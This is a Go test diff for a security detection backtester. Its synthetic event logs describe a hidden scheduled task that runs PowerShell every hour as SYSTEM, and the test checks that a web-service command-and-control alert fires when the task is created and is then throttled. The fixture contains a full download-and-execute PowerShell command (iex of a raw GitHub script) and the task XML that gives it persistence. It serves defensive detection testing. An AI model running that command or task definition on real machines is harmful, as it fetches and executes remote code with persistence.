@@ -2,6 +2,7 @@ package backtest
 
 import (
 	"context"
+	"encoding/csv"
 	"fmt"
 	"math"
 	"os"
@@ -192,4 +193,73 @@ func contains(s []string, v string) bool {
 		}
 	}
 	return false
+}
+
+// TestTaskRaisedAtCreation runs the shipped alert over a task created to
+// run iex of a raw GitHub file every hour (Security 4698), and its hourly
+// runs (a new PowerShell each time): the alert is raised by the first
+// scheduled run that reads the creation, before the task has run, with its
+// author; the runs join the task's identity and are throttled with it.
+func TestTaskRaisedAtCreation(t *testing.T) {
+	if testing.Short() {
+		t.Skip("runs hourly searches through the real commands")
+	}
+	dir := t.TempDir()
+	created := time.Date(2026, 11, 23, 9, 14, 2, 0, time.UTC)
+	args := `-NoProfile -WindowStyle Hidden -Command "iex(iwr https://raw.githubusercontent.com/eve/cfg/main/u.ps1 -UseBasicParsing)"`
+	content := `<?xml version="1.0" encoding="UTF-16"?>` + "\r\n" + `<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">` +
+		`<RegistrationInfo><Author>CORP\eve</Author><URI>\Sync</URI></RegistrationInfo>` +
+		`<Triggers><TimeTrigger><Repetition><Interval>PT1H</Interval></Repetition><StartBoundary>2026-11-23T10:00:00</StartBoundary></TimeTrigger></Triggers>` +
+		`<Principals><Principal id="Author"><UserId>S-1-5-18</UserId></Principal></Principals>` +
+		`<Actions Context="Author"><Exec><Command>powershell.exe</Command><Arguments>` + strings.ReplaceAll(args, `"`, "&quot;") + `</Arguments></Exec></Actions></Task>`
+	var b strings.Builder
+	w := csvWriter(&b)
+	w([]string{"_time", "host", "source", "EventCode", "ProcessGuid", "ProcessId", "Image", "OriginalFileName", "CommandLine", "ParentImage", "User",
+		"QueryName", "QueryResults", "DestinationIp", "TaskName", "TaskContent", "SubjectUserName", "SubjectDomainName"})
+	w([]string{created.Format(time.RFC3339), "WKS-033", "XmlWinEventLog:Security", "4698", "", "", "", "", "", "", "", "", "", "", `\Sync`, content, "eve", "CORP"})
+	ps := `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
+	for i := 1; i <= 4; i++ {
+		at := time.Date(2026, 11, 23, 9+i, 0, 0, 0, time.UTC)
+		g, pid := fmt.Sprintf("{5d2e7a10-55%02d-6741-aa01-000000000f20}", i), fmt.Sprint(3000+i)
+		w([]string{at.Format(time.RFC3339), "WKS-033", "", "1", g, pid, ps, "PowerShell.EXE", "powershell.exe " + args, `C:\Windows\System32\svchost.exe`, `NT AUTHORITY\SYSTEM`, "", "", "", "", "", "", ""})
+		w([]string{at.Add(time.Second).Format(time.RFC3339), "WKS-033", "", "22", g, pid, ps, "", "", "", `NT AUTHORITY\SYSTEM`, "raw.githubusercontent.com", "::ffff:185.199.108.133;", "", "", "", "", ""})
+		w([]string{at.Add(2 * time.Second).Format(time.RFC3339), "WKS-033", "", "3", g, pid, ps, "", "", "", `NT AUTHORITY\SYSTEM`, "", "", "185.199.108.133", "", "", "", ""})
+	}
+	evFile := filepath.Join(dir, "task.csv")
+	require.NoError(t, os.WriteFile(evFile, []byte(b.String()), 0o644))
+	events, err := ReadEvents([]string{evFile}, DefaultSource)
+	require.NoError(t, err)
+	cmds := map[string][]string{}
+	for _, name := range []string{"t1102correlate", "t1102score"} {
+		out, err := exec.Command("go", "build", "-o", filepath.Join(dir, name), "../cmd/"+name).CombinedOutput()
+		require.NoError(t, err, "%s", out)
+		cmds[name] = []string{filepath.Join(dir, name)}
+	}
+	app, err := LoadApp(filepath.Join("..", ".."))
+	require.NoError(t, err)
+	st, err := OpenState("", app, false)
+	require.NoError(t, err)
+	defer st.Close()
+	e := &Engine{App: app, State: st, Events: events, Indexers: 2, Commands: cmds}
+	from, to := time.Date(2026, 11, 23, 9, 0, 0, 0, time.UTC), time.Date(2026, 11, 23, 15, 0, 0, 0, time.UTC)
+	rep, err := Run(context.Background(), e, Options{From: from, To: to, Searches: []string{alertSearch, baselineSearch}})
+	require.NoError(t, err)
+	require.NotEmpty(t, rep.Alerts, "the task raises an alert")
+	first := rep.Alerts[0]
+	require.Equal(t, `\Sync`, strings.Join(first.Get("t1102_task"), ""))
+	require.Equal(t, `CORP\eve`, strings.Join(first.Get("t1102_task_author"), ""))
+	require.True(t, first.Time.Before(time.Date(2026, 11, 23, 10, 0, 0, 0, time.UTC).Add(10*time.Minute)), "raised before its first run was judged: %s", first.Time)
+	require.LessOrEqual(t, first.Time.Sub(created), 70*time.Minute, "within the alert's window and period")
+	require.Len(t, rep.Alerts, 1, "its runs are the task's identity, throttled with it: %v", rep.Alerts)
+	t.Logf("task created %s, alert raised %s (%.0f min later), risk %s; %d alert(s) in %s of hourly runs",
+		created.Format("15:04:05"), first.Time.Format("15:04"), first.Time.Sub(created).Minutes(), strings.Join(first.Get("risk_score"), ""), len(rep.Alerts), to.Sub(from))
+}
+
+// csvWriter returns a function writing one CSV record to b.
+func csvWriter(b *strings.Builder) func([]string) {
+	w := csv.NewWriter(b)
+	return func(rec []string) {
+		_ = w.Write(rec)
+		w.Flush()
+	}
 }
